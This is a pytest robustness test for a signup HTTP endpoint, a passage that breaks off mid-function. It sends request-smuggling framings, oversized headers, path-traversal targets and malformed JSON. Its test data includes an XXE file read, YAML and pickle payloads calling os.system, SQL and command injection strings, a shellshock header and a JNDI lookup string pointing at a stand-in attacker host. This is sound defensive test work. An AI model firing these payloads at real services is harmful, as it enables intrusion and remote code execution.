"""What a hostile or broken client sends gets the answer of the contract, and harms nobody else.

Each request goes over a connection of its own, just as it stands here. The connection ends only
after the answers, but for those cut short by their name: nobody else is kept waiting for more.
What is not HTTP is answered by gunicorn, whose status alone is looked at.
"""

import io
import itertools
import json
import re
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from http.client import parse_headers
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import pytest

from .service import Service, execute

USER = {"email": "ada@example.com", "first_name": "Ada", "last_name": "Lovelace"}
FIELDS = tuple(USER)
LIMIT = 16384  # MAX_BODY_BYTES
numbers = itertools.count()

# What no answer may show: code, SQL of our own, a connection string.
SECRETS = re.compile(r"Traceback|\.py\b|site-packages|psycopg|INSERT INTO|RETURNING|postgres|host=")
SANE_ID = re.compile(r"[A-Za-z0-9._-]{1,128}")


class Answer(NamedTuple):
    """What a client gets; `json` is None where gunicorn answers by itself, with a page of HTML."""

    status: int
    json: Any = None
    allow: str | None = None

    def counts(self) -> bool:
        """Whether it is in the metrics: the application's, and on /signup."""
        return bool(self.json) and self.status not in (200, 404) and self.allow in (None, "POST")


INVALID = Answer(400, {"error": "invalid request body"})
TOO_LARGE = Answer(413, {"error": "request body too large"})
NOT_POST = Answer(405, {"error": "method not allowed"}, "POST")
NOT_GET = Answer(405, {"error": "method not allowed"}, "GET, HEAD, OPTIONS")
NOT_FOUND = Answer(404, {"error": "not found"})
NO_EMAIL = Answer(400, {"error": "email is required", "field": "email"})
NOT_HTTP = Answer(400)
LONG_LINE = Answer(414)
BAD_EXPECT = Answer(417)
LARGE_HEAD = Answer(431)
WELCOME = Answer(200, {"message": "welcome"})


def refused(field: str, message: str) -> Answer:
    return Answer(400, {"error": message, "field": field})


def http(line: bytes, *headers: bytes, body: bytes = b"", host: bytes = b"Host: x") -> bytes:
    return b"\r\n".join([line, *filter(None, [host]), *headers, b"", body])


def post(body: bytes, *headers: bytes, target: bytes = b"/signup", **options: Any) -> bytes:
    length = b"Content-Length: %d" % len(body)
    return http(b"POST %s HTTP/1.1" % target, length, *headers, body=body, **options)


def length(value: bytes, body: bytes = b"{}", *headers: bytes) -> bytes:
    """A body with `value` for its Content-Length."""
    return http(b"POST /signup HTTP/1.1", b"Content-Length: " + value, *headers, body=body)


def chunks(body: bytes, *headers: bytes) -> bytes:
    """`body` as it goes over the wire, chunks and all."""
    return http(b"POST /signup HTTP/1.1", b"Transfer-Encoding: chunked", *headers, body=body)


def coding(value: bytes) -> bytes:
    body = b"2\r\n{}\r\n0\r\n\r\n"
    return http(b"POST /signup HTTP/1.1", b"Transfer-Encoding: " + value, body=body)


def user(**changes: Any) -> bytes:
    return json.dumps(USER | changes).encode()


def new_user(**changes: Any) -> bytes:
    """A user whom nobody else has signed up."""
    return user(email=f"fine.{next(numbers)}@example.com", **changes)


def name(text: bytes) -> bytes:
    """A signup with these bytes as a name."""
    return user(first_name="?").replace(b'"?"', b'"' + text + b'"')


def extra(text: bytes) -> bytes:
    """A signup with an unknown field of this value."""
    return user()[:-1] + b', "extra": ' + text + b"}"


def get(*headers: bytes, target: bytes = b"/signup", **options: Any) -> bytes:
    return http(b"GET %s HTTP/1.1" % target, *headers, **options)


GOOD = user()
CHUNKED = b"%x\r\n%s\r\n0\r\n\r\n" % (len(GOOD), GOOD)

# Bodies that are no JSON object with strings, in UTF-8.
ENCODINGS = {
    "utf-16": GOOD.decode().encode("utf-16"),
    "utf-16-le": GOOD.decode().encode("utf-16-le"),
    "utf-16-be": GOOD.decode().encode("utf-16-be"),
    "utf-32": GOOD.decode().encode("utf-32"),
    "utf-7": b"+AHs-" + GOOD[1:],
    "EBCDIC": GOOD.decode().encode("cp037"),
    "byte order mark": b"\xef\xbb\xbf" + GOOD,
    "gzip": b"\x1f\x8b\x08" + GOOD,
    "latin-1": name(b"Zo\xeb"),
    "shift-jis": name("愛".encode("shift-jis")),
    "overlong slash": name(b"\xc0\xaf"),
    "overlong NUL": name(b"a\xc0\x80"),
    "overlong in three bytes": name(b"\xe0\x80\xaf"),
    "encoded surrogate": name(b"\xed\xa0\x80"),
    "CESU-8": name(b"\xed\xa0\xbd\xed\xb8\x80"),
    "continuation alone": name(b"\x80"),
    "sequence cut short": name(b"\xe2\x82"),
    "above U+10FFFF": name(b"\xf4\x90\x80\x80"),
    "byte F5": name(b"\xf5\x80\x80\x80"),
    "byte FF": name(b"\xff"),
}
JSON = {
    "nothing": b"",
    "blanks": b" \r\n\t ",
    "null": b"null",
    "true": b"true",
    "number": b"1",
    "string": b'"email"',
    "array": b"[]",
    "array with a user": b"[" + GOOD + b"]",
    "two users": GOOD + GOOD,
    "rubbish behind": GOOD + b"x",
    "NUL behind": GOOD + b"\0",
    "brace missing": GOOD[:-1],
    "quote missing": GOOD[:-2] + b"}",
    "comma too many": GOOD[:-1] + b",}",
    "single quotes": GOOD.replace(b'"', b"'"),
    "no quotes": b"{email: 1}",
    "comment": b"/* hello */" + GOOD,
    "newline in a string": name(b"a\nb"),
    "tab in a string": name(b"a\tb"),
    "NUL in a string": name(b"a\0b"),
    "unknown escape": name(rb"\x41"),
    "escape cut short": name(rb"\u12"),
    "NaN": extra(b"NaN"),
    "Infinity": extra(b"Infinity"),
    "-Infinity": extra(b"-Infinity"),
    "leading zero": extra(b"01"),
    "hexadecimal": extra(b"0x1"),
    "plus": extra(b"+1"),
    "point first": extra(b".5"),
    "point last": extra(b"5."),
    "True": extra(b"True"),
    "form": b"email=ada@example.com&first_name=Ada&last_name=Lovelace",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"!!python/object/apply:os.system ['true']",
    "pickle": b"cos\nsystem\n(S'true'\ntR.",
    "email twice": user()[:-1] + b', "email": "eve@example.com"}',
    "email twice, the same": user()[:-1] + b', "email": "ada@example.com"}',
    "email twice, once escaped": user()[:-1] + rb', "\u0065mail": "eve@example.com"}',
    "unknown key twice": extra(b'1, "extra": 1'),
    "key twice deep down": extra(b'[{"a": 1, "a": 2}]'),
    "brackets": b"[" * LIMIT,
    "braces": b'{"a":' * (LIMIT // 5),
    # RFC 8259, section 9, leaves the limit to the parser, and int() takes quadratic time.
    "long number": extra(b"9" * 5000),
    "many keys": b'{"a": 1, ' * 1500,
}
WRONG_TYPES = {
    f"{field} is {json.dumps(value)}": user(**{field: value})
    for field in FIELDS
    for value in (None, True, 1, 1.5, [], ["x"], {}, {"$ne": ""})
}

# Texts that no field may have, in JSON's own spelling.
BLANK = {
    "empty": b"",
    "space": b" ",
    "no-break space": rb"\u00a0",
    "ideographic spaces": rb"\u3000\u2003",
    "line breaks": rb"\r\n",
    "joiners only": rb"\u200d \u200c",
}
FORBIDDEN = {
    "NUL": rb"\u0000",
    "escape": rb"\u001b[2J",
    "tab": rb"\t",
    "CR LF": rb"\r\nSet-Cookie: a=b",
    "delete": rb"\u007f",
    "next line": rb"\u0085",
    "high surrogate": rb"\ud83d",
    "low surrogate": rb"\ude00",
    "surrogates swapped": rb"\ude00\ud83d",
    "zero-width space": rb"\u200b",
    "word joiner": rb"\u2060",
    "byte order mark": rb"\ufeff",
    "soft hyphen": rb"\u00ad",
    "right-to-left mark": rb"\u200f",
    "right-to-left override": rb"\u202e",
    "right-to-left isolate": rb"\u2067",
    "line separator": rb"\u2028",
    "paragraph separator": rb"\u2029",
    "tag": rb"\udb40\udc41",
}
BEFORE = "The email address contains invalid characters before the @-sign: "
BEHIND = "The part after the @-sign contains invalid characters: "
DISPLAY_NAME = "A display name and angle brackets around the email address are not permitted here."
EMAILS = {
    "ada": "An email address must have an @-sign.",
    "@": "There must be something before the @-sign.",
    "@example.com": "There must be something before the @-sign.",
    "ada@": "There must be something after the @-sign.",
    "ada@@example.com": BEHIND + "'@'.",
    "ada@eve@example.com": BEHIND + "'@'.",
    ".ada@example.com": "An email address cannot start with a period.",
    "ada.@example.com": "An email address cannot have a period immediately before the @-sign.",
    "a..b@example.com": "An email address cannot have two periods in a row.",
    "ada lovelace@example.com": BEFORE + "SPACE.",
    "ada@exa mple.com": BEHIND + "SPACE.",
    "ada@-example.com": "An email address cannot have a hyphen immediately after the @-sign.",
    "ada@example-.com": "An email address cannot have a period and a hyphen next to each other.",
    "ada@example..com": "An email address cannot have two periods in a row.",
    "ada@.example.com": "An email address cannot have a period immediately after the @-sign.",
    "ada@example.com.": "An email address cannot end with a period.",
    "ada@example": "The part after the @-sign is not valid. It should have a period.",
    "ada@localhost": "The part after the @-sign is not valid. It should have a period.",
    "ada@[127.0.0.1]": "A bracketed IP address after the @-sign is not allowed here.",
    "ada@[IPv6:::1]": "A bracketed IP address after the @-sign is not allowed here.",
    "ada@127.0.0.1": (
        "The part after the @-sign is not valid. It is not within a valid top-level domain."
    ),
    '"ada lovelace"@example.com': "Quoting the part before the @-sign is not allowed here.",
    "ada(comment)@example.com": BEFORE + "'(', ')'.",
    "Ada <ada@example.com>": DISPLAY_NAME,
    "<ada@example.com>": DISPLAY_NAME,
    "mailto:ada@example.com": BEFORE + "':'.",
    "ada@example.com,eve@example.com": BEHIND + "',', '@'.",
    "ada@example.com;eve@example.com": BEHIND + "';', '@'.",
    "ada@xn--0.com": "The part after the @-sign is not valid IDNA (Invalid A-label).",
    "ada@exam_ple.com": BEHIND + "'_'.",
    "ada@example.com/../x": BEHIND + "'/'.",
    "ada＠example.com": (
        'The email address has the "full-width" at-sign (@) character instead of a regular at-sign.'
    ),
    f"ada@{'b' * 64}.com": (
        "After the @-sign, periods cannot be separated by so many characters"
        " (1 character too many)."
    ),
    "ada@example.com%0d%0aBcc:eve@example.com": BEHIND + "'%', ':', '@'.",
    "'; DROP TABLE users; --@example.com": BEFORE + "';', SPACE.",
    "ada@example.com' OR '1'='1": BEHIND + "\"'\", '=', SPACE.",
    "1) UNION SELECT 1--@example.com": BEFORE + "')', SPACE.",
    "ada@example.com; pg_sleep(9)": BEHIND + "'(', ')', ';', '_', SPACE.",
    "<script>alert(1)</script>@example.com": "There can't be anything after the email address.",
    "ada\u200d@example.com": "The email address contains unsafe characters: ZERO WIDTH JOINER.",
}

# Heads and framing. A path that is not exactly /signup is another one.
BODIES = {
    "over the limit": (post(b" " * (LIMIT + 1)), TOO_LARGE),
    "far over the limit": (post(b" " * 1_000_000), TOO_LARGE),
    "a valid one, over the limit": (post(GOOD.ljust(LIMIT + 1)), TOO_LARGE),
    "announced over the limit": (length(b"16385", GOOD), TOO_LARGE),
    "announced far over it": (length(b"99999999999999999999", GOOD), TOO_LARGE),
    "cut short before it came": (length(b"100", b""), INVALID),
    "cut short": (length(b"100", b"{"), INVALID),
    "cut short, but JSON": (length(b"%d" % (len(GOOD) + 1), GOOD), INVALID),
    "no length": (http(b"POST /signup HTTP/1.1"), INVALID),
    "no length in 1.0": (http(b"POST /signup HTTP/1.0"), INVALID),
    "length too small": (length(b"%d" % (len(GOOD) - 1), GOOD), INVALID),
    "length negative": (length(b"-1"), NOT_HTTP),
    "length with a plus": (length(b"+2"), NOT_HTTP),
    "length of text": (length(b"two"), NOT_HTTP),
    "length empty": (length(b""), NOT_HTTP),
    "length with a blank": (length(b"2 2"), NOT_HTTP),
    "length hexadecimal": (length(b"0x2"), NOT_HTTP),
    "length with a point": (length(b"2.0"), NOT_HTTP),
    "length with an underscore": (length(b"1_0"), NOT_HTTP),
    "length superscript": (length(b"\xb2"), NOT_HTTP),
    "length as a list": (length(b"2, 2"), NOT_HTTP),
    "length of 5000 digits": (length(b"9" * 5000), NOT_HTTP),
    "two lengths": (length(b"2", b"{}", b"Content-Length: 3"), NOT_HTTP),
    "two equal lengths": (length(b"2", b"{}", b"Content-Length: 2"), NOT_HTTP),
    "length and chunks": (length(b"5", CHUNKED, b"Transfer-Encoding: chunked"), NOT_HTTP),
    "chunks and length": (chunks(CHUNKED, b"Content-Length: 5"), NOT_HTTP),
}
CHUNKS = {
    "size not hexadecimal": (chunks(b"zz\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size negative": (chunks(b"-2\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size with a plus": (chunks(b"+2\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size with 0x": (chunks(b"0x2\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size with an underscore": (chunks(b"0_2\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size with a blank": (chunks(b" 2\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size empty": (chunks(b"\r\n{}\r\n0\r\n\r\n"), INVALID),
    "size too small": (chunks(b"1\r\n{}\r\n0\r\n\r\n"), INVALID),
    "cut short by its size": (chunks(b"f" + CHUNKED), INVALID),
    "size of 16 digits": (chunks(b"f" * 16 + b"\r\n{}"), TOO_LARGE),
    "size wrong, and a wait": (chunks(b"1\r\n{}" + b" " * 100), INVALID),
    "announced over the limit": (chunks(b"4001\r\n"), TOO_LARGE),
    "announced far over it": (chunks(b"ffffffff\r\n{}"), TOO_LARGE),
    "bad extension": (chunks(b"2;a=\x01\r\n{}\r\n0\r\n\r\n"), INVALID),
    "bare CR in an extension": (chunks(b"2;a\rb\r\n{}\r\n0\r\n\r\n"), INVALID),
    "bare LF": (chunks(CHUNKED.replace(b"\r\n", b"\n")), INVALID),
    "end of a chunk missing": (chunks(b"2\r\n{}0\r\n\r\n"), INVALID),
    "end of a chunk wrong": (chunks(b"2\r\n{}xx0\r\n\r\n"), INVALID),
    "cut short in the size": (chunks(b"2"), INVALID),
    "cut short in a chunk": (chunks(b"5\r\n{}"), INVALID),
    "cut short after a chunk": (chunks(CHUNKED[:-7]), INVALID),
    "cut short before the last": (chunks(CHUNKED[:-5]), INVALID),
    "cut short in the last": (chunks(CHUNKED[:-2]), INVALID),
    "cut short at once": (chunks(b""), INVALID),
    "no chunks": (chunks(GOOD + b"\r\n"), INVALID),
    "empty": (chunks(b"0\r\n\r\n"), INVALID),
    "Host as a trailer": (chunks(CHUNKED[:-2] + b"Host: y\r\n\r\n"), INVALID),
    "Content-Length as a trailer": (chunks(CHUNKED[:-2] + b"Content-Length: 1\r\n\r\n"), INVALID),
    "bad trailer": (chunks(CHUNKED[:-2] + b"rubbish\r\n\r\n"), INVALID),
    "200 trailers": (chunks(CHUNKED[:-2] + b"A: b\r\n" * 200 + b"\r\n"), INVALID),
    "over the limit": (chunks(b"4001\r\n" + b" " * 0x4001 + b"\r\n0\r\n\r\n"), TOO_LARGE),
    "over the limit in small chunks": (
        chunks(b"1\r\n \r\n" * (LIMIT + 1) + b"0\r\n\r\n"),
        TOO_LARGE,
    ),
    "far over the limit": (chunks(b"f4240\r\n" + b" " * 1_000_000 + b"\r\n0\r\n\r\n"), TOO_LARGE),
    "coding twice": (coding(b"chunked, chunked"), NOT_HTTP),
    "coding after chunked": (coding(b"chunked, gzip"), NOT_HTTP),
    "identity": (coding(b"identity"), NOT_HTTP),
    "gzip alone": (coding(b"gzip"), NOT_HTTP),
    "two headers": (chunks(CHUNKED, b"Transfer-Encoding: chunked"), NOT_HTTP),
    "folded": (coding(b"\r\n chunked"), NOT_HTTP),
    "blank before the colon": (
        http(b"POST /signup HTTP/1.1", b"Transfer-Encoding : chunked", body=CHUNKED),
        NOT_HTTP,
    ),
    "in HTTP/1.0": (
        http(b"POST /signup HTTP/1.0", b"Transfer-Encoding: chunked", body=CHUNKED),
        NOT_HTTP,
    ),
}
HIDDEN = get(target=b"/")
SMUGGLED = {  # a second request, which may be answered only where the first one surely ends
    "behind a short body": (length(b"2", b"{}" + HIDDEN), NO_EMAIL, WELCOME),
    "behind the chunks": (chunks(b"2\r\n{}\r\n0\r\n\r\n" + HIDDEN), NO_EMAIL, WELCOME),
    "behind another method's body": (
        length(b"2", b"{}" + HIDDEN).replace(b"POST", b"GET", 1),
        NOT_POST,
        WELCOME,
    ),
    "behind a bad chunk": (chunks(b"zz\r\n\r\n" + HIDDEN), INVALID),
    "behind too large a body": (post(b" " * (LIMIT + 1)) + HIDDEN, TOO_LARGE),
    "behind an announced one": (length(b"16385", HIDDEN * 1000), TOO_LARGE),
    "behind too large chunks": (chunks(b"4001\r\n" + b" " * 0x4001 + b"\r\n" + HIDDEN), TOO_LARGE),
    "between length and chunks": (
        length(b"5", b"0\r\n\r\n" + HIDDEN, b"Transfer-Encoding: chunked"),
        NOT_HTTP,
    ),
    "between two lengths": (
        length(b"2", b"{}" + HIDDEN, b"Content-Length: %d" % (2 + len(HIDDEN))),
        NOT_HTTP,
    ),
    "behind a bad line": (http(b"GET /signup") + HIDDEN, NOT_HTTP),
    "behind large headers": (get(b"X: " + b"x" * 100_000) + HIDDEN, LARGE_HEAD),
    "behind CONNECT": (http(b"CONNECT /signup HTTP/1.1") + HIDDEN, NOT_POST),
    "bad chunks that nobody reads": (
        http(b"GET / HTTP/1.1", b"Transfer-Encoding: chunked", body=b"zz\r\n\r\n" + HIDDEN),
        WELCOME,
    ),
    "in a header": (get(b"X: x\r\n\r\n" + HIDDEN), NOT_POST, WELCOME, NOT_HTTP),
}
HEADS = {
    "a header of 10 kB": (get(b"X: " + b"x" * 10_000), LARGE_HEAD),
    "a header of 1 MB": (get(b"X: " + b"x" * 1_000_000), LARGE_HEAD),
    "a header's name of 1 MB": (get(b"x" * 1_000_000 + b": x"), LARGE_HEAD),
    "headers of 1 MB": (get(*[b"X: " + b"x" * 8000] * 125), LARGE_HEAD),
    "101 headers": (get(*[b"X: x"] * 100), LARGE_HEAD),
    "10000 headers": (get(*[b"X: x"] * 10_000), LARGE_HEAD),
    "a line of 5 kB": (get(target=b"/signup?" + b"x" * 5000), LONG_LINE),
    "a line of 50 kB": (get(target=b"/" + b"x" * 50_000), LONG_LINE),
    "a line of 1 MB": (get(target=b"/" + b"x" * 1_000_000), LARGE_HEAD),
    "no end": (b"GET /signup HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 100_000, LARGE_HEAD),
    "no colon": (get(b"rubbish"), NOT_HTTP),
    "no name": (get(b": x"), NOT_HTTP),
    "blank in a name": (get(b"X Y: x"), NOT_HTTP),
    "blank before the colon": (get(b"X : x"), NOT_HTTP),
    "blank before the name": (get(b"Y: y", b" X: x"), NOT_HTTP),
    "folded": (get(b"X: x", b"\ty"), NOT_HTTP),
    "non-ASCII name": (get(b"\xc3\xa9: x"), NOT_HTTP),
    "NUL in a value": (get(b"X: a\0b"), NOT_HTTP),
    "NUL in a name": (get(b"X\0: x"), NOT_HTTP),
    "bare CR": (get(b"X: a\rb"), NOT_HTTP),
    "bare LF in a value": (get(b"X: a\nY: b"), NOT_HTTP),
    "bare LFs": (b"GET /signup HTTP/1.1\nHost: x\n\n", NOT_HTTP),
    "escape in a value": (get(b"X: \x1b[2J"), NOT_HTTP),
    "two hosts": (get(b"Host: y"), NOT_HTTP),
    "two content types": (post(GOOD, b"Content-Type: a/b", b"Content-Type: c/d"), NOT_HTTP),
    "contradictory schemes": (
        get(b"X-Forwarded-Proto: https", b"X-Forwarded-Ssl: off"),
        NOT_HTTP,
    ),
    "unknown expectation": (post(GOOD, b"Expect: a-miracle"), BAD_EXPECT),
    "two expectations": (post(GOOD, b"Expect: 100-continue, 200-ok"), BAD_EXPECT),
    "expectation of an invalid body": (post(b"", b"Expect: 100-continue"), INVALID),
}
LINES = {
    "no version": (http(b"GET /signup"), NOT_HTTP),
    "no path": (http(b"GET HTTP/1.1"), NOT_HTTP),
    "empty path": (http(b"GET  HTTP/1.1"), NOT_HTTP),
    "only a word": (http(b"hello"), NOT_HTTP),
    "blank in the path": (http(b"GET /sign up HTTP/1.1"), NOT_HTTP),
    "tab": (http(b"GET\t/signup\tHTTP/1.1"), NOT_HTTP),
    "two blanks": (http(b"GET /signup  HTTP/1.1"), NOT_HTTP),
    "blank behind": (http(b"GET /signup HTTP/1.1 "), NOT_HTTP),
    "blank in front": (http(b" GET /signup HTTP/1.1"), NOT_HTTP),
    "HTTP/0.9": (http(b"GET /signup HTTP/0.9"), NOT_HTTP),
    "HTTP/1": (http(b"GET /signup HTTP/1"), NOT_HTTP),
    "HTTP/1.10": (http(b"GET /signup HTTP/1.10"), NOT_HTTP),
    "HTTP/2.0": (http(b"GET /signup HTTP/2.0"), NOT_HTTP),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", NOT_HTTP),
    "HTTP/9.9": (http(b"GET /signup HTTP/9.9"), NOT_HTTP),
    "http/1.1": (http(b"GET /signup http/1.1"), NOT_HTTP),
    "HTTPS/1.1": (http(b"GET /signup HTTPS/1.1"), NOT_HTTP),
    "SIP/2.0": (http(b"OPTIONS sip:ada SIP/2.0"), NOT_HTTP),
    "ICY": (http(b"GET /signup ICY"), NOT_HTTP),
    "TLS": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", NOT_HTTP),
    "PROXY protocol": (b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + get(), NOT_HTTP),
    "SSH": (b"SSH-2.0-OpenSSH_9.9\r\n\r\n", NOT_HTTP),
    "redis": (b"*1\r\n$4\r\nPING\r\n\r\n", NOT_HTTP),
    "NUL": (b"\0" * 100 + b"\r\n\r\n", NOT_HTTP),
}
METHODS = {
    **{
        method: (http(method.encode() + b" /signup HTTP/1.1"), NOT_POST)
        for method in (
            *("GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT"),
            *("PROPFIND", "MKCOL", "LOCK", "SEARCH", "PURGE", "QUERY", "BREW", "POSTS"),
            *("PO-ST", "A" * 20),
        )
    },
    **{
        repr(method): (http(method.encode() + b" /signup HTTP/1.1"), NOT_HTTP)
        for method in ("post", "Post", "get", "GE", "A" * 21, "POST\0", "PO(ST", "PO/ST", '"POST"')
    },
    "PUT with a user": (post(GOOD).replace(b"POST", b"PUT", 1), NOT_POST),
    "GET with a user": (post(GOOD).replace(b"POST", b"GET", 1), NOT_POST),
    "override header": (get(b"X-HTTP-Method-Override: POST"), NOT_POST),
    "POST /": (post(GOOD, target=b"/"), NOT_GET),
    "POST /metrics": (post(GOOD, target=b"/metrics"), NOT_GET),
    "DELETE /healthz": (http(b"DELETE /healthz HTTP/1.1"), NOT_GET),
    "PUT /readyz": (http(b"PUT /readyz HTTP/1.1"), NOT_GET),
}
PATHS = {
    **{
        path: (post(GOOD, target=path.encode()), NOT_FOUND)
        for path in (
            *("/nothing", "/signup/", "//signup", "///signup", "/signup//", "/signup/x"),
            *("/SIGNUP", "/Signup", "/signup%00", "/signup%2f", "/%2fsignup", "/signup%20"),
            *("/signup%0d%0aX:%20y", "/./signup", "/../signup", "/x/../signup", "/%2e/signup"),
            *("/%2e%2e/signup", "/..;/signup", "/;/signup", "/signup;", "/signup;x=y"),
            *("/signup.json", "/signup%3Fa=b", "/signup%23", "/\\signup", "/%5csignup"),
            *("/signup%C0%AF", "/sign%FFup", "/signup%", "/%ef%bc%8fsignup", "/%252fsignup"),
            *("/.git/config", "/static/../app.py", "/etc/passwd", "/%2e%2e/%2e%2e/etc/passwd"),
            *("/wp-login.php", "/favicon.ico", "/metrics/", "/healthz/", "/openapi.json/"),
            *("http://x//signup", "http://x", "http://x?/signup", "signup?://", "signup://"),
            *("file:///etc/passwd", "//x/signup"),
        )
    },
    "asterisk": (http(b"OPTIONS * HTTP/1.1"), NOT_FOUND),
    "CONNECT": (http(b"CONNECT x:80 HTTP/1.1"), NOT_FOUND),
    "CONNECT signup": (http(b"CONNECT signup HTTP/1.1"), NOT_FOUND),
    **{
        path: (post(GOOD, target=path.encode("latin-1")), NOT_HTTP)
        for path in (
            *("*", "signup", "x:80", "?", "/signup\xe9", "/signup\x7f", "/signup\0", "/sign\rup"),
            *("http://[x/signup", "http:/signup"),
        )
    },
}
# These are other spellings of the path, and count as it.
SAME_PATH = {
    path: (post(b"[]", target=path.encode()), INVALID)
    for path in (
        *("/%73ignup", "/signu%70", "/signup?", "/signup?a=b&a=c%00"),
        *("/signup#fragment", "http://x/signup", "HTTP://evil.example/signup", "ftp://x/signup"),
    )
}
# Headers that must change nothing: each comes with an invalid body to /signup.
IGNORED = {
    header.decode("latin-1"): (post(b"[]", header), INVALID)
    for header in (
        *(b"SCRIPT_NAME: /signup", b"SCRIPT_NAME: /x", b"SCRIPT-NAME: /signup"),
        *(b"PATH_INFO: /", b"PATH-INFO: /", b"PATH-TRANSLATED: /", b"REQUEST_METHOD: GET"),
        *(b"REMOTE_USER: admin", b"CONTENT_LENGTH: 1", b"TRANSFER_ENCODING: chunked"),
        *(b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-For: \xe9, ' OR 1=1", b"X-Real-IP: ::1"),
        *(b"X-Forwarded-Host: evil.example", b"X-Forwarded-Proto: gopher", b"X-Forwarded-Port: x"),
        *(b"X-Forwarded-Prefix: /signup", b"Forwarded: for=\xe9;host=evil.example;proto=x"),
        *(b"X-Original-URL: /metrics", b"X-Rewrite-URL: /", b"X-HTTP-Method-Override: GET"),
        *(b"Content-Type: application/json; charset=utf-16", b"Content-Type: \xe9", b"Accept: x"),
        *(b"Content-Type: multipart/form-data", b"Content-Encoding: gzip", b"Range: bytes=0-0"),
        *(b"If-None-Match: *", b"Cookie: session=\xe9; a", b"Authorization: Basic \xe9"),
        *(b"Upgrade: h2c", b"Connection: close, Host", b"Proxy: http://evil.example/"),
        *(b"X-Request-ID: a b", b"X-Request-ID: \xe9", b"X-Request-ID: " + b"a" * 129),
        *(b"X-Request-ID: <script>", b"X-Request-ID: a%0d%0aSet-Cookie:%20b", b"X-Request-ID:"),
        *(b"User-Agent: () { :; }; true", b"User-Agent: ${jndi:ldap://evil.example/a}"),
    )
}
HOSTS = {
    host.decode("latin-1") or "none": (post(b"[]", host=host), INVALID)
    for host in (
        *(b"", b"Host:", b"Host: a b", b"Host: \xe9", b"Host: evil.example", b"Host: x:99999"),
        *(b"Host: x:y", b"Host: [::1", b"Host: x/signup?", b"Host: a@b", b"Host: " + b"x" * 8000),
    )
}

CASES = {
    **{f"body: {key}": (post(body), INVALID) for key, body in (ENCODINGS | JSON).items()},
    **{f"type: {key}": (post(body), INVALID) for key, body in WRONG_TYPES.items()},
    **{
        f"{field}: {key}": (
            post(user(**{field: "?"}).replace(b'"?"', b'"' + text + b'"')),
            refused(field, f"{field.replace('_', ' ')} {message}"),
        )
        for field in FIELDS
        for texts, message in (
            (BLANK, "is required"),
            (
                {key: b"a@b.c" + text + b"d" for key, text in FORBIDDEN.items()},
                "must not contain control or invisible characters",
            ),
            (
                {"too long": b"a" * (255 if field == "email" else 101)},
                f"must be at most {254 if field == 'email' else 100} characters",
            ),
        )
        for key, text in texts.items()
    },
    **{
        f"{field}: missing": (
            post(json.dumps({key: value for key, value in USER.items() if key != field}).encode()),
            refused(field, f"{field.replace('_', ' ')} is required"),
        )
        for field in FIELDS
    },
    **{
        f"email: {email}": (
            post(user(email=email)),
            refused("email", f"email is not valid: {message}"),
        )
        for email, message in EMAILS.items()
    },
    "order: the last two": (
        post(user(first_name="", last_name="\0")),
        refused("first_name", "first name is required"),
    ),
    **{
        f"{title}: {key}": case
        for title, table in (
            ("framing", BODIES),
            ("chunks", CHUNKS),
            ("smuggled", SMUGGLED),
            ("head", HEADS),
            ("line", LINES),
            ("method", METHODS),
            ("path", PATHS),
            ("same path", SAME_PATH),
            ("ignored", IGNORED),
            ("host", HOSTS),
        )
        for key, case in table.items()
    },
}

# Strange, but all right: each of these is a valid signup.
NAMES = (
    *("Robert'); DROP TABLE users; --", "' OR '1'='1", '"; SELECT pg_sleep(9); --', "%s %(id)s %d"),
    *("{0} {{7*7}} ${7*7}", "<script>alert(1)</script>", "../../etc/passwd", "null", "NaN", "\\"),
    *("$(reboot) `reboot`", "=1+1", "O'Brien", "X Æ A-12", "علی\u200cرضا", "Zoë", "Zoe\u0308"),
    *("דוד", "𝒜" * 100, "\U0001f469\u200d\U0001f467", "Set-Cookie: a=b", "a" * 100, "x"),
)
FINE = {
    **{f"name: {text}": post(new_user(last_name=text)) for text in NAMES},
    **{
        f"extra: {text.decode()[:40]}": post(new_user()[:-1] + b', "extra": ' + text + b"}")
        for text in (
            *(b"1e999", b"-0", b"null", b'"\\ud800"', b"[" * 200 + b"]" * 200, b'{"email": 1}'),
            *(b'"\\u0000"', b"9" * 4000, b'1, "id": 1, "__proto__": {}, "created_at": 1'),
        )
    },
    "white space around": post(b"\r\n\t " + new_user() + b" \n"),
    "the largest body": post(new_user().ljust(LIMIT)),
    "escapes": post(new_user(first_name="?").replace(b"?", rb"\u0041\ud83d\ude00\/")),
    "HTTP/1.0": post(new_user()).replace(b"HTTP/1.1", b"HTTP/1.0"),
    "an empty line in front": b"\r\n" + post(new_user()),
    "zeros before the length": post(new_user()).replace(b"Length: ", b"Length: 000"),
    "an expectation": post(new_user(), b"Expect: 100-Continue"),
    "99 headers": post(new_user(), *[b"X: x"] * 97),
    "no host": post(new_user(), host=b""),
    "chunks": chunks(b"C8;a=b\r\n%s\r\n0\r\nX: x\r\n\r\n" % new_user().ljust(200)),
    "chunks of a byte": chunks(
        b"".join(b"001\r\n%c\r\n" % byte for byte in new_user()) + b"000\r\n\r\n"
    ),
}


@pytest.fixture(scope="module", autouse=True)
def nobody_is_harmed(service: Service, database_url: str) -> Iterator[None]:
    """After all that: the same workers, what was counted is what was answered, no fault logged."""
    boots = service.boots()
    yield
    assert service.signup(data=new_user()).status_code == 201
    assert service.boots() == boots
    service.check_equalities(execute(database_url, "SELECT count(*) FROM users")[0][0])
    assert "traceback" not in service.log().lower()


def talk(service: Service, request: bytes, count: int, end: bool = False) -> list[Answer]:
    """Send `request` and return `count` answers, and not one more. `end` it before they come."""
    address = urlsplit(service.url)
    with (
        socket.create_connection((address.hostname, address.port), timeout=30) as client,
